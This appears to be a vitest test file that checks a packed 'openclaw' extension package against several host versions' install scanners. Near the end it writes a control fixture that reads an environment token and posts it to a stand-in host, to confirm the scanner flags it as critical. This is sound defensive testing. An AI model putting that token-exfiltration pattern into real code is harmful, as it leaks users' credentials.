/**
 * The packed package as each host line's install scanner reads it: every line's own
 * `scanDirectoryWithSummary`, loaded from its dist, run over the files `npm pack`
 * ships, with the package's extension entry forced in as the installers do. 2026.4.24
 * and 2026.5.28 block an install on any critical finding; the later lines run the same
 * rules in `openclaw security audit --deep`. No host process starts: a few seconds.
 */
import { execFileSync } from "node:child_process";
import { existsSync, promises as fsp } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hostFunction } from "../support/host-dist.js";
import { ensureHost, HOST_LINES, REPO_ROOT, type HostVersion } from "./host-install.js";

/** What every line's scanner returns (fields the lines share). */
interface ScanSummary {
  scannedFiles: number;
  critical: number;
  warn: number;
  truncated?: boolean;
  findings: { ruleId: string; severity: string; file: string; line: number; message: string }[];
}
type ScanDirectory = (dir: string, opts: { includeFiles?: string[] }) => Promise<ScanSummary>;

/** The file extensions every line's scanner reads (`SCANNABLE_EXTENSIONS`, the same on all six lines). */
const SCANNABLE = /\.(js|ts|mjs|cjs|mts|cts|jsx|tsx)$/i;

/** The scanner of one line: `skill-scanner-*.js` on 2026.4.24, `scanner-*.{js,mjs}` later. */
async function lineScanner(version: HostVersion): Promise<ScanDirectory> {
  const dist = path.join((await ensureHost(version)).packageDir, "dist");
  const scan =
    (await hostFunction<ScanDirectory>(dist, "scanner-", "scanDirectoryWithSummary")) ??
    (await hostFunction<ScanDirectory>(dist, "skill-scanner-", "scanDirectoryWithSummary"));
  if (!scan) throw new Error(`Expected scanDirectoryWithSummary in ${dist}, found none`);
  return scan;
}

async function scannableFiles(dir: string): Promise<string[]> {
  const entries = await fsp.readdir(dir, { recursive: true, withFileTypes: true });
  return entries.filter((e) => e.isFile() && SCANNABLE.test(e.name)).map((e) => path.join(e.parentPath, e.name));
}

describe("the packed package passes every host line's install scanner", () => {
  const work = path.join(os.tmpdir(), `cl-install-scan-${process.pid}`);
  const packageDir = path.join(work, "package");
  let extensions: string[] = [];

  beforeAll(async () => {
    // No silent skip: the tarball packs dist/, which `npm run build` makes (npm test does).
    expect(existsSync(path.join(REPO_ROOT, "dist", "index.js")), "dist/index.js missing: run `npm run build`").toBe(
      true,
    );
    await fsp.mkdir(work, { recursive: true });
    const out = execFileSync("npm", ["pack", "--json", "--pack-destination", work], {
      cwd: REPO_ROOT,
      encoding: "utf8",
      env: { ...process.env, npm_config_ignore_scripts: "true" },
    });
    const tarball = path.join(work, (JSON.parse(out) as { filename: string }[])[0]?.filename ?? "");
    execFileSync("tar", ["-xzf", tarball, "-C", work]);
    const pkg = JSON.parse(await fsp.readFile(path.join(packageDir, "package.json"), "utf8")) as {
      openclaw?: { extensions?: string[] };
    };
    extensions = pkg.openclaw?.extensions ?? [];
  }, 120_000);
  afterAll(async () => {
    await fsp.rm(work, { recursive: true, force: true });
  });

  it.each(HOST_LINES)("%s flags nothing in any shipped file, and reads them all", async (version) => {
    const scan = await lineScanner(version);
    const files = await scannableFiles(packageDir);
    const summary = await scan(packageDir, { includeFiles: extensions });
    const findings = summary.findings.map(
      (f) => `${f.severity} ${f.ruleId} ${path.relative(packageDir, f.file)}:${f.line} ${f.message}`,
    );
    expect(findings).toEqual([]);
    // Past the scanners' 500-file limit the rest would go unread (and 2026.5.28+ mark the scan truncated).
    expect(summary.scannedFiles).toBe(files.length);
    expect(summary.truncated ?? false).toBe(false);
  });

  it.each(HOST_LINES)(
    "%s's scanner, as loaded here, marks a process spawn and an env fetch critical",
    async (version) => {
      const scan = await lineScanner(version);
      const bad = path.join(work, `bad-${version}`);
      await fsp.mkdir(bad, { recursive: true });
      await fsp.writeFile(
        path.join(bad, "spawn.js"),
        'import { execFile } from "node:child_process";\nexecFile("openclaw", ["config", "validate"]);\n',
      );
      await fsp.writeFile(
        path.join(bad, "env.js"),
        'const token = process.env.TOKEN;\nawait fetch("https://example.invalid", { body: token });\n',
      );
      const summary = await scan(bad, {});
      expect(
        summary.findings
          .filter((f) => f.severity === "critical")
          .map((f) => f.ruleId)
          .sort(),
      ).toEqual(["dangerous-exec", "env-harvesting"]);
    },
  );
});
